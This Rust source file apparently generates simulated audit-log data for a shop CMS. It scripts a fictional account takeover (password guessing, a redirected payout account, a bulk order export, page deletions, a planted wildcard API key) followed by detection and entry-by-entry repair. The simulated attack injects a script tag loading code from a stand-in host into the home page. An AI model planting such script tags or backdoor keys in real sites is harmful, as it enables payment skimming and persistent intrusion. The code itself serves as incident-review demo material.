//! One night at `northwind.shop`, for readers to find out about.
//!
//! Somebody guesses an owner's password from an address that was never seen before, sends the shop's money
//! elsewhere, takes a copy of the orders, and deletes pages to keep people busy. In the morning a reviewer
//! notices; what was done is undone entry by entry. Everything a revert needs is in the log.

use serde_json::json;

use super::edit::{set, within};
use super::people::{NORTHWIND, Person};
use super::shop::editor;
use super::stage::{Deed, Request, Stage, Thing};

pub(super) const DAYS_BEFORE: i64 = 17;

const STRANGE_IP: &str = "203.0.113.66";
const STRANGE_AGENT: &str = "python-requests/2.32.3";
const TICKET: &str = "INC-2207";

/// Pages that were deleted that night wait here, outside the site's navigation, until somebody needs them.
const BACKUP: &str = "page_backup";

fn victim() -> Option<&'static Person> {
    NORTHWIND.first()
}

/// A request with the victim's name and the stranger's address.
fn stranger(stage: &mut Stage) -> Option<Request> {
    let victim = victim()?;
    let actor = json!({"type": "user", "id": victim.id, "name": victim.name, "email": victim.email,
        "roles": [victim.role]});
    let request = stage.request(actor).from("ip", STRANGE_IP).from("user_agent", STRANGE_AGENT);
    Some(request.from("channel", "api").from("session_id", "9d1f0c77a2b84e6f8f3b5a6cc0de4a11"))
}

pub(super) fn guess_password(stage: &mut Stage) {
    for _ in 0..14 {
        let (Some(victim), Some(by)) = (victim(), stranger(stage)) else { return };
        let deed = Deed::new("cms.login", format!("Failed sign-in for {}", victim.email));
        stage.note(&by, "member", victim.id, Some(victim.name), deed.failed(&["wrong password"]));
        stage.wait(9, 110);
    }
}

pub(super) fn strike(stage: &mut Stage) {
    let (Some(victim), Some(by)) = (victim(), stranger(stage)) else { return };
    stage.note(
        &by,
        "member",
        victim.id,
        Some(victim.name),
        Deed::new("cms.login", format!("{} signed in", victim.name)),
    );
    stage.wait(20, 40);
    if let Some(at) = stage.find("site_settings", "payment") {
        let by = again(stage, &by).from("method", "PUT").from("path", "/api/v1/settings/payment");
        let deed = Deed::new("cms.settings_update", "Changed the settings Payment");
        stage.change(&by, "site_settings", at, deed, |state, _| {
            set(
                state,
                "payout_account",
                json!({"holder": "N. W. Tea Trading", "iban_last4": "8830", "bank": "Bank of Elsewhere"}),
            );
            set(state, "capture", "immediately");
            set(state, "notify", json!([]));
            set(state, "refund_limit", 25_000);
        });
    }
    stage.wait(30, 60);
    let exporting = again(stage, &by).from("path", "/api/v1/orders/export");
    let deed =
        Deed::new("cms.export", "Exported 12418 orders").data(json!({"format": "csv", "rows": 12_418}));
    stage.note(&exporting, "order", "all", Some("Orders"), deed);
    let deed = Deed::new("cms.permission_denied", "Tried to read the audit log's settings");
    stage.note(
        &exporting,
        "site_settings",
        "audit",
        Some("Audit log"),
        deed.failed(&["only super administrators may"]),
    );
    stage.wait(20, 50);
    let deleting = again(stage, &by).from("method", "DELETE").from("path", "/api/v1/pages");
    for id in ["p-2", "p-3", "p-4", "p-6"] {
        let Some(at) = stage.find("page", id) else { continue };
        let title = stage.title("page", at);
        if let Some(page) =
            stage.delete(&deleting, "page", at, Deed::new("cms.delete", format!("Deleted the page {title}")))
        {
            stage.furnish(BACKUP, page);
        }
        stage.wait(1, 3);
    }
    let planting = again(stage, &by).from("method", "PUT");
    if let Some(at) = stage.find("page", "p-1") {
        stage.change(&planting, "page", at, Deed::new("cms.update", "Edited the page Home"), |state, _| {
            let body = state.get("body").and_then(|body| body.as_str()).unwrap_or_default().to_owned();
            set(state, "body", body + "\n\n<script src=\"https://pay.example.net/checkout.js\"></script>");
        });
    }
    let key = Thing::new("key-31", &json!({"label": "backup", "scopes": ["*"], "expires_at": null}));
    stage.create(&planting, "api_key", key, Deed::new("cms.create", "Created the API key backup"));
    stage.wait(5, 15);
    stage.note(
        &by,
        "member",
        victim.id,
        Some(victim.name),
        Deed::new("cms.logout", format!("{} signed out", victim.name)),
    );
}

/// Another request of the same session.
fn again(stage: &mut Stage, by: &Request) -> Request {
    let fresh = stage.request(by.actor.clone());
    let mut request = by.clone();
    request.correlation = fresh.correlation;
    request.origin.extend(fresh.origin);
    request
}

pub(super) fn discover(stage: &mut Stage) {
    let by = editor(stage, &["reviewer"]);
    let deed = Deed::new("cms.read", "Read the activity of the last night")
        .because("Shipping and returns answers 404");
    stage.note(&by, "audit_log", "northwind.shop", Some("Activity"), deed);
    stage.wait(240, 400);
    let by = editor(stage, &["admin"]);
    if let Some(at) = victim().and_then(|victim| stage.find("member", victim.id)) {
        let deed = Deed::new("cms.update", "Suspended the membership of Marketa Doležel")
            .because(format!("{TICKET}: signed in from two places"));
        stage.change(&by, "member", at, deed, |state, _| set(state, "active", false));
    }
    if let Some(at) = stage.find("api_key", "key-31") {
        stage.delete(
            &by,
            "api_key",
            at,
            Deed::new("cms.delete", "Revoked the API key backup").because(TICKET),
        );
    }
}

pub(super) fn repair(stage: &mut Stage) {
    let by = editor(stage, &["admin"]);
    let reason = format!("{TICKET}: back to the state of yesterday evening");
    if let Some(at) = stage.find("site_settings", "payment") {
        let deed = Deed::new("cms.restore", "Restored the settings Payment").because(reason.clone());
        stage.change(&by, "site_settings", at, deed, |state, _| {
            set(
                state,
                "payout_account",
                json!({"holder": "Northwind Tea", "iban_last4": "0417", "bank": "Harbour Mutual"}),
            );
            set(state, "capture", "on_shipment");
            set(state, "notify", json!(["accounts@northwind.example.com"]));
            set(state, "refund_limit", 250);
        });
    }
    stage.wait(30, 90);
    for at in 0..stage.count(BACKUP) {
        if let Some(page) = stage.thing(BACKUP, at).cloned() {
            let summary = format!("Restored the page {}", page.title().unwrap_or_default());
            stage.create(&by, "page", page, Deed::new("cms.restore", summary).because(reason.clone()));
        }
    }
    if let Some(at) = stage.find("page", "p-1") {
        let deed = Deed::new("cms.restore", "Restored the page Home").because(reason.clone());
        stage.change(&by, "page", at, deed, |state, _| {
            let body = state.get("body").and_then(|body| body.as_str()).unwrap_or_default();
            let clean = body.split("\n\n<script").next().unwrap_or_default().to_owned();
            set(state, "body", clean);
        });
    }
    stage.wait(1200, 1800);
    let by = editor(stage, &["admin"]);
    if let Some(at) = victim().and_then(|victim| stage.find("member", victim.id)) {
        let deed = Deed::new("cms.update", "Reinstated the membership of Marketa Doležel")
            .because(format!("{TICKET}: new password, second factor"));
        stage.change(&by, "member", at, deed, |state, _| {
            set(state, "active", true);
            set(state, "two_factor", true);
        });
    }
    if let Some(at) = stage.find("site_settings", "payment") {
        let deed = Deed::new("cms.settings_update", "Payment changes need two people now")
            .because(format!("{TICKET}: lesson learnt"));
        stage.change(&by, "site_settings", at, deed, |state, _| {
            set(state, "approvals_needed", 2);
            if let Some(account) = within(state, "payout_account") {
                set(account, "verified", true);
            }
            set(state, "note", "Call each other. Do not write.");
        });
    }
}
